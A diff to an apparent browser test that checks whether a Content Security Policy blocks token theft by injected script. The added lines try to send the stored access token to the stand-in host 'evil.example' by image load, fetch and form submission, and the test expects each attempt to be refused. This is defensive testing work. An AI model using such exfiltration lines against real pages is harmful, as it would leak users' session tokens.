@@ -98,7 +98,7 @@ test('token theft by a script in a profile or a reason: it is shown as text, on 
         const seen: string[] = []
         document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
           seen.push(effectiveDirective)
-          if (seen.length === 3) resolve(seen.sort())
+          if (seen.length === 5) resolve(seen.sort())
         })
         const place = document.body.appendChild(document.createElement('div'))
         place.innerHTML = markup
@@ -108,11 +108,17 @@ test('token theft by a script in a profile or a reason: it is shown as text, on 
         const foreign = document.createElement('img')
         foreign.src = `https://evil.example/?${localStorage.getItem('accessToken')}`
         place.append(foreign)
+        // By what a script could send, had one run.
+        fetch(foreign.src).catch(() => undefined)
+        const form = document.createElement('form')
+        form.action = foreign.src
+        place.append(form)
+        form.submit()
       }),
     script,
   )
   expect([refused, await page.title()]).toEqual([
-    ['img-src', 'script-src-attr', 'script-src-elem'],
+    ['connect-src', 'form-action', 'img-src', 'script-src-attr', 'script-src-elem'],
     expect.not.stringMatching('owned'),
   ])
   await page.evaluate(() => localStorage.removeItem('locked'))
